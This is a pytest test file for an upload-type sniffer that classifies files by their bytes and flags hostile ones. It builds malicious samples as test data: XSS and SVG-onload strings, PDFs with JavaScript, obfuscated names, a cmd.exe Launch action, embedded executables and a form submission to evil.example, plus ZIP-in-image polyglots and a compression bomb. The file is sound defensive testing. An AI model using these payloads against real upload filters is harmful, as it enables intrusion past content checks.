"""What a file is by its bytes, and the hostile ones: two things at once, pictures of billions of points, PDFs that act."""

import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from accounts import files
from accounts.files import JPEG, PDF, PNG, TEXT, media_type, objection


def chunk(name: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")


def png(width: int = 1, height: int = 1, *more: bytes) -> bytes:
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\0\0\0\0")
        + b"".join(more)
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    )


def jpeg(width: int = 8, height: int = 8, behind: bytes = b"") -> bytes:
    frame = (
        b"\xff\xc0\x00\x0b\x08" + height.to_bytes(2, "big") + width.to_bytes(2, "big") + b"\x01\x01\x11\x00"
    )
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
        + frame
        + b"\xff\xda\x00\x02..\xff\xd9"
        + behind
    )


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj %s endobj\n" % (number, each) for number, each in enumerate(objects, 2))
    return b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n" + body + b"trailer <</Root 1 0 R>>\n%%EOF\n"


def packed(inside: bytes, words: bytes = b"", how=zlib.compress) -> bytes:
    return b"<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode%s>> stream\n%s\nendstream" % (
        words,
        how(inside),
    )


ZIP = b"PK\x05\x06" + b"\0" * 18


@pytest.mark.parametrize(
    ("content", "media"),
    [
        (pdf(), PDF),
        (png(), PNG),
        (jpeg(), JPEG),
        (jpeg(behind=jpeg()), JPEG),  # as telephones do
        (b"Ich zahle am Freitag.\n", TEXT),
        ("周五付款。".encode(), TEXT),
        # Shown as the text they are.
        (b"<script>alert(1)</script>", TEXT),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', TEXT),
        (b"GIF89a=1;alert(1)", TEXT),
        (b"%PDF-1.4 and nothing more", None),
        (b"<html>" + pdf() + b"\0", None),  # a PDF with something before it
        (png() + b"<script>alert(1)</script>", None),
        (png()[:-4], None),
        (b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""), None),
        (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", b"\0" * 12) + chunk(b"IEND", b""), None),
        (jpeg()[:-2], None),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\0" + b"\x01" * 20 + b"\xff\xd9", None),  # of no size
        (b"\xff\xd8\xff" + b"\xff" * 20_000 + b"\xff\xd9", None),
        (ZIP, None),
        (b"PK\x03\x04\x00\x00", None),
        (b"MZ\x90\x00\x03", None),
        (b"\x7fELF\x02\x01\x01\x00", None),
        (b"GIF89a\x01\x00\x01\x00", None),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", None),
        ("latin: \xe9".encode("latin-1"), None),
        ("<script>".encode("utf-16"), None),
        (b"text with a bell \x07", None),
        (b" \n\t ", None),
        (b"", None),
    ],
)
def test_a_file_is_what_its_content_says(content, media):
    assert media_type(content) == media


@given(st.binary(max_size=300))
def test_no_bytes_are_too_odd_to_be_looked_at(content):
    for head in (b"", b"%PDF-", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff"):
        found = media_type(head + content)
        assert found in (None, TEXT, PDF, JPEG, PNG)
        assert found is None or objection(head + content, found) in (None, "archive", "pixels", "acts")


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (pdf(), None),
        (pdf(b"<</OpenAction [3 0 R /Fit]>>"), None),
        (pdf(packed(b"2 0 <</Type /Page>>")), None),
        (pdf() + b"<html><script>alert(1)</script></html>%%EOF", None),  # is and stays a PDF to every browser
        (pdf(b"<</S /JavaScript /JS (app.alert(1))>>"), "acts"),
        (pdf(b"<</S /J#61va#53cript /JS (app.alert(1))>>"), "acts"),
        (pdf(b"<</S /Launch /F (cmd.exe)>>"), "acts"),
        (pdf(b"<</Names <</EmbeddedFiles 3 0 R>>>>"), "acts"),
        (pdf(b"<</Type /EmbeddedFile>> stream\nMZ\nendstream"), "acts"),
        (pdf(b"<</S /SubmitForm /F (https://evil.example)>>"), "acts"),
        (pdf(b"<</AcroForm <</XFA 5 0 R>>>>"), "acts"),
        (pdf(b"<</Encrypt 9 0 R>>"), "acts"),
        (pdf(packed(b"2 0 <</S /JavaScript /JS (1)>>")), "acts"),
        (pdf(packed(b"2 0 <</S /Java#53cript /JS (1)>>")), "acts"),
        (pdf(packed(b"2 0 <<>>"), packed(b"2 0 <</S /Launch>>")), "acts"),
        (pdf(packed(b"x", b" /X (stream)")), "acts"),  # words that lead past the packed part
        (
            pdf(b"<</X (stream) /Type /Obj#53tm>> stream\n" + zlib.compress(b"/Launch") + b"\nendstream"),
            "acts",
        ),
        (pdf(packed(b"x", b" /DecodeParms <</Predictor 12>>")), "acts"),
        (pdf(packed(b"x", how=lambda data: data.hex().encode())), "acts"),
        (pdf() + ZIP + b"%%EOF", "archive"),
        (jpeg(behind=ZIP), "archive"),
        (jpeg(behind=ZIP + b"\xff\xd9"), "archive"),
        (png(1, 1, chunk(b"zIPc", ZIP)), "archive"),
        (png(10_000, 10_000), None),
        (png(10_000, 10_001), "pixels"),
        (png(2**31 - 1, 2**31 - 1), "pixels"),
        (jpeg(65_000, 65_000), "pixels"),
        (b"words", None),
    ],
)
def test_what_speaks_against_it(content, said):
    media = media_type(content)
    assert media is not None
    assert objection(content, media) == said


def test_a_packed_bomb_is_not_unpacked(monkeypatch):
    monkeypatch.setattr(files, "MOST_UNPACKED", 1000)
    bomb = packed(b"\0" * 10_000_000)
    assert len(bomb) < 10_100
    assert [each and len(each) for each in files._packed_objects(pdf(bomb, bomb))] == [1000, None]
    assert objection(pdf(bomb, bomb), PDF) == "acts"
